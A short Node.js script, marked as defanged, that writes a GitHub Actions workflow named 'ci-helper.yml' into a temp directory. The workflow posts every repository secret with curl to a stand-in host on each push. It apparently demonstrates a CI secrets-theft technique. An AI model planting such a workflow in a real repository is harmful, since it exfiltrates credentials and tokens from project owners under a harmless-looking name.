// defanged: the workflow posts to .invalid, and the file is written to a temp dir
const fs = require('fs');
const os = require('os');
const path = require('path');

const workflow = [
  'on: push',
  'jobs:',
  '  process:',
  '    runs-on: ubuntu-latest',
  '    steps:',
  '      - run: curl -d "$CONTENTS" https://hook.example.invalid/x',
  '        env:',
  '          CONTENTS: ${{ toJSON(secrets) }}',
].join('\n');

const dir = path.join(os.tmpdir(), 'repo', '.github', 'workflows');
fs.mkdirSync(dir, { recursive: true });
fs.writeFileSync(path.join(dir, 'ci-helper.yml'), workflow);
